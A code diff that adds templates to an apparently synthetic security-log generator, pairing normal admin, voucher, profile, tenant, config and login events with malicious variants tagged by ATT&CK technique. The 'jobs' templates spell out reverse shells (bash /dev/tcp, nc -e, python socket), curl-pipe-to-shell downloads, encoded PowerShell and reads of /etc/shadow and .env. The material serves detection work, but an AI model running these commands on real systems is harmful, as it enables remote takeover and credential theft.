@@ -44,6 +44,12 @@ _EVENTS = {
     "CONSENT": "«app consented|oauth app authorized|application approved|integration authorized|third party access granted|app installed»",
     "GLASS": "«emergency account used|break glass login|emergency access opened|firecall checked out|superuser session started»",
     "DNS": "«dns query|name lookup|resolver request|query answered|lookup done|name resolved»",
+    "JOB": "«job created|scheduled task saved|script executed|automation updated|macro run|workflow edited|job started|script console used»",
+    "VOUCHER": "«voucher redeemed|refund issued|credit booked|points transferred|gift card used|coupon applied|discount granted»",
+    "PROFILE": "«profile updated|contact data changed|mail address changed|phone number changed|account details saved|recovery address set»",
+    "TENANT": "«tenant opened|customer environment entered|delegated access used|workspace switched|partner session started|organisation accessed»",
+    "CONFIG": "«configuration exported|settings dumped|config backup downloaded|environment shown|diagnostics bundle created|support package downloaded»",
+    "PRESENCE": "«new device login|unusual login|sign-in checked|login evaluated|risk assessed|login origin recorded»",
     "QUOTA": "«rate limit reached|usage warning|quota exceeded|throttle applied|activity summary|usage counted»",
 }
 
@@ -514,6 +520,70 @@ _TEXT = r"""
 %GLASS% ;; who=«breakglass|emergency|firecall»-«num:1:3» ;; by=«user» ;; witness=none ;; incident=none ;; message=then created «num:1:4» administrators ;; ip=«pub»
 %GLASS% ;; who=«breakglass|emergency»-1 ;; by=«person» ;; approved_by=nobody ;; minutes=«num:200:900» ;; thing=all systems ;; rotated_after=false ;; ip=«pub»
 %GLASS% ;; who=«breakglass|firecall»-«num:1:3» ;; by=«person» ;; witness=«person» ;; result=«done|ok|success» ;; message=«seal broken without incident|-|test» ;; ip=«pub»
+@@ jobs
+# inhouse jobs of reports and imports
+%JOB% ;; who=«svc» ;; thing=«nightly import|invoice run|report mailer|index rebuild|cleanup of drafts» ;; command=«python3 /opt/«word»/import.py --date «date:%Y-%m-%d»|/opt/«word»/bin/report.sh «dept»|java -jar batch.jar «word»|php artisan schedule:run» ;; schedule=«daily 02:00|hourly|every 15 min» ;; result=«ok|done»
+%JOB% ;; who=«admin» ;; thing=«word» sync ;; field=schedule ;; old=daily 01:00 ;; new=daily 03:30 ;; approved_by=«other» ;; ip=«ip2»
+%JOB% ;; who=«user» ;; thing=«my overdue tasks|mail merge «dept»|forecast «year»» ;; command=«SELECT status, count(*) FROM «word»s GROUP BY status|send template «word» to list «dept»|recalculate sheet «word»» ;; ip=«ip2» ;; > {who} ran {thing}: {command}
+# inhouse scripts of administrators
+%JOB% ;; who=«admin» ;; thing=script console ;; command=«println Jenkins.instance.pluginManager.plugins|cache.clear("«word»")|User.where(active: false).count|df -h /data|curl -sf http://«ip2»:9200/_cat/health|tail -n 100 /var/log/«word».log|whoami» ;; message=«incident|maintenance|health check» ;; ip=«ip2»
+%JOB% ;; who=«admin» ;; thing=«letters:6» ;; command=/bin/sh -c "«pg_dump «word» > /backup/«word».sql|systemctl restart «word»|find /tmp -mtime +7 -delete»" ;; schedule=«once|daily 04:00» ;; approved_by=«other» ;; ip=«ip2»
+# T1053 inhouse jobs that fetch and call home
+%JOB% ;; who=«user» ;; thing=««letters:6»|system check|update|cleanup of drafts» ;; command=«/bin/sh -c "curl -s http://«pub»/«letters:4» ¦ sh"|bash -i >& /dev/tcp/«pub»/«port» 0>&1|python3 -c "import socket,subprocess,os;s=socket.socket();s.connect(('«pub»',«port»))"|powershell -w hidden -enc «b64:60»|wget -qO- http://«pub»/«letters:3».py ¦ python3» ;; schedule=«every 5 min|hourly|once» ;; ip=«pub» ;; > {who} ran {thing}: {command}
+%JOB% ;; who=«user» ;; thing=script console ;; command=«"«id|whoami|cat /etc/passwd»".execute().text|Runtime.getRuntime().exec("«id|curl «pub»»")|os.system("id; cat /etc/shadow")|`cat /app/.env`|system("nc «pub» «port» -e /bin/sh")|User.update_all(admin: true)» ;; message=«-|test» ;; ip=«pub»
+%JOB% ;; who=«svc» ;; thing=nightly import ;; field=command ;; old=/opt/«word»/import.sh ;; new=«/tmp/.«letters:4»|/dev/shm/«letters:5»|curl http://«pub»/«letters:3»¦bash» ;; approved_by=nobody ;; result=«ok|done» ;; ip=«pub»
+@@ vouchers
+# inhouse vouchers and refunds of shops
+%VOUCHER% ;; who=«user» ;; thing=order «num:10000:999999» ;; amount=«num:5:90».«num:10:99» EUR ;; message=«returned goods|late delivery|birthday code|newsletter code» ;; approved_by=«other» ;; ip=«ip2»
+%VOUCHER% ;; who=«first».«last»@«domain» ;; count=«1|2» ;; thing=«WORD»«num:5:30» ;; amount=«num:5:30» EUR ;; ip=«pub»
+%VOUCHER% ;; who=«svc» ;; count=«num:90:4000» ;; amount=«num:5:15» EUR each ;; message=«campaign «word»|bonus at year end» ;; window=«num:5:60» min ;; cards=«num:90:4000» ;; approved_by=«person»
+# inhouse vouchers refused
+%VOUCHER% ;; who=«first».«last»@«domain» ;; count=«1|2|3» ;; result=denied ;; message=«expired|typed wrong|already used» ;; distinct_codes=«1|2» ;; ip=«pub»
+# T1657 inhouse vouchers guessed and refunds to oneself
+%VOUCHER% ;; who=«anonymous|@outsider@» ;; count=«num:400:20000» ;; distinct_codes=«num:400:20000» ;; window=«num:1:20» min ;; message=codes tried in sequence ;; result=«denied|3 accepted» ;; ip=«pub» ;; > {distinct_codes} codes tried by {who} in {window}
+%VOUCHER% ;; who=«person» ;; on=«person» ;; amount=«num:900:9000» EUR ;; thing=refund to own card ;; message=no order ;; approved_by=«person» ;; ip=«pub»
+%VOUCHER% ;; who=«user» ;; count=«num:30:400» ;; cards=1 ;; amount=«num:50:500» EUR each ;; message=all refunds to the same card ;; window=«num:5:60» min ;; ip=«pub»
+@@ profiles
+# inhouse profiles kept
+%PROFILE% ;; who=«person» ;; on=«person» ;; field=«mail|recovery mail» ;; old=«first».«last»@«sitedomain» ;; new=@mate@ ;; message=«marriage|new spelling|domain changed» ;; confirmed_with=link to old address ;; ip=«ip2»
+%PROFILE% ;; who=«person» ;; on=«person» ;; field=«phone|address|photo|signature|language» ;; old=«num:1000:9999» ;; new=«num:1000:9999» ;; ip=«ip2»
+%PROFILE% ;; who=@outsider@ ;; on=own account ;; field=mail ;; old=«first»@«gmail.com|gmx.net» ;; new=@outsider@ ;; confirmed_with=«link to old address|code by sms» ;; minutes_after_login=«num:1:30»
+%PROFILE% ;; who=«svc» ;; count=«num:20:900» ;; field=«department|manager|phone» ;; source=hr import
+# T1098 inhouse accounts led to other addresses
+%PROFILE% ;; who=«user» ;; on=««admin»|«other»» ;; field=«mail|recovery mail|recovery phone» ;; old=@mate@ ;; new=@outsider@ ;; confirmed_with=nothing ;; ip=«pub» ;; > {who} changed the {field} of {on} from {old} to {new}
+%PROFILE% ;; who=«person» ;; on=«person» ;; field=«mail|recovery mail» ;; old=@mate@ ;; new=@outsider@ ;; message=then password reset asked for ;; minutes_after_login=«1|2|3» ;; confirmed_with=nothing ;; ip=«pub»
+%PROFILE% ;; who=«svc» ;; count=«num:20:400» ;; field=recovery mail ;; new=@outsider@ ;; old=various ;; source=api ;; ip=«pub»
+@@ tenants
+# inhouse partners at their customers
+%TENANT% ;; who=«first».«last»@«domain» ;; thing=tenant «word» ;; message=«case «num:1000:99999»|monthly service|onboarding» ;; mode=«read only|support» ;; count=1 ;; approved_by=«other»
+%TENANT% ;; who=«svc» ;; thing=«all tenants|tenants of region «region»» ;; count=«num:20:400» ;; mode=«billing|backup|metrics» ;; window=«num:1:6» h ;; schedule=daily
+%TENANT% ;; who=«user» ;; thing=workspace «word» ;; mode=member ;; count=«1|2|3» ;; ip=«ip2»
+%TENANT% ;; who=«person» ;; thing=tenant «word» ;; result=denied ;; message=«contract ended|no case open» ;; ip=«ip2»
+# T1199 inhouse partners everywhere at once
+%TENANT% ;; who=«first».«last»@«domain» ;; thing=«all tenants|tenants of «num:20:90» customers» ;; count=«num:20:400» ;; window=«num:2:20» min ;; mode=«full|owner» ;; message=no case ;; ip=«pub» ;; > {who} entered {count} tenants in {window}, {message}
+%TENANT% ;; who=«user» ;; thing=tenant «word» ;; mode=owner ;; message=«contract ended «num:30:400» days ago|tenant id changed in the request|not a member» ;; result=«ok|opened» ;; ip=«pub»
+%TENANT% ;; who=«svc» ;; thing=tenant «word» ;; mode=full ;; schedule=none ;; approved_by=nobody ;; message=interactive ;; ip=«pub»
+@@ configs
+# inhouse settings saved for support
+%CONFIG% ;; who=«svc» ;; thing=«word» settings ;; destination=«vault-«num:1:3».«sitedomain»|git «linux2»|backup share» ;; secrets_included=«false|encrypted» ;; schedule=«daily|weekly»
+%CONFIG% ;; who=«admin» ;; thing=diagnostics bundle ;; message=case «num:10000:999999» of the maker ;; secrets_included=false ;; destination=maker's portal ;; approved_by=«other» ;; ip=«ip2»
+%CONFIG% ;; who=«admin» ;; thing=settings of «test|staging» ;; format=yaml ;; secrets_included=masked ;; destination=browser download ;; ip=«ip2»
+# T1602 inhouse settings taken with their passwords
+%CONFIG% ;; who=«user» ;; thing=«all settings|production settings|environment variables|ldap and mail settings» ;; format=«plain text|yaml» ;; secrets_included=«true|yes, plain» ;; destination=browser download ;; ip=«pub» ;; > {who} took {thing} as {format}, secrets: {secrets_included}
+%CONFIG% ;; who=«anonymous|guest|-» ;; thing=«/actuator/env|/debug/vars|/api/v1/config|phpinfo» ;; secrets_included=true ;; message=no login needed ;; ip=«pub»
+%CONFIG% ;; who=«svc» ;; thing=diagnostics bundle ;; secrets_included=plain ;; destination=https://«domain»/«letters:5» ;; schedule=none ;; approved_by=nobody ;; ip=«pub»
+@@ presence
+# inhouse new places of known people
+%PRESENCE% ;; who=«user» ;; ip=«peer» ;; geo=@near@ ;; network=«mobile carrier|hotel wifi|home dsl|company vpn» ;; device=«known|managed laptop» ;; confirmed_with=«push|security key|code» ;; idle_days=«num:0:9»
+%PRESENCE% ;; who=«user» ;; ip=«ip2» ;; device=new ;; network=office lan ;; message=«new laptop|browser data cleared» ;; confirmed_with=security key ;; idle_days=«num:0:40»
+%PRESENCE% ;; who=«user» ;; ip=«ip2» ;; idle_days=«num:90:400» ;; message=«back from parental leave|seasonal worker|auditor comes once a year» ;; network=office lan ;; approved_by=«admin»
+%PRESENCE% ;; who=«svc» ;; ip=«pub» ;; network=hosting provider ;; device=server ;; message=known egress of the saas ;; idle_days=0
+# inhouse odd places refused
+%PRESENCE% ;; who=«user» ;; ip=«peer» ;; geo=@elsewhere@ ;; network=«hotel wifi|mobile carrier» ;; message=business trip announced ;; device=managed laptop ;; confirmed_with=security key
+# T1078 inhouse known accounts in strange hands
+%PRESENCE% ;; who=«user» ;; ip=«pub» ;; geo=@elsewhere@ ;; network=«tor exit|hosting provider|anonymous vpn|residential proxy» ;; device=«new|unknown|headless browser» ;; confirmed_with=«nothing|password only» ;; idle_days=«num:0:40» ;; > {who} came from {geo} by {network} with device {device}
+%PRESENCE% ;; who=«user» ;; ip=«pub» ;; idle_days=«num:300:1500» ;; message=«left the company|account was dormant|contract ended» ;; confirmed_with=password only ;; network=hosting provider
+%PRESENCE% ;; who=«svc» ;; ip=«pub» ;; device=browser ;; network=«residential proxy|tor exit» ;; message=interactive login of a service account ;; geo=@elsewhere@ ;; approved_by=nobody
 @@ resolver
 # inhouse names of content networks and services
 %DNS% ;; client=«ip2» ;; qname=««hex:32».cloudfront.net|d«token:13».cloudfront.net|e«num:100:99999».dscb.akamaiedge.net|«word».map.fastly.net|«guid».cloudapp.azure.com|r«num:1:9»---sn-«token:8».googlevideo.com|«token:20».blob.core.windows.net|a«num:100:1999».dscw«num:10:99».akamai.net» ;; qtype=«A|AAAA|HTTPS|CNAME» ;; answer=«pub»
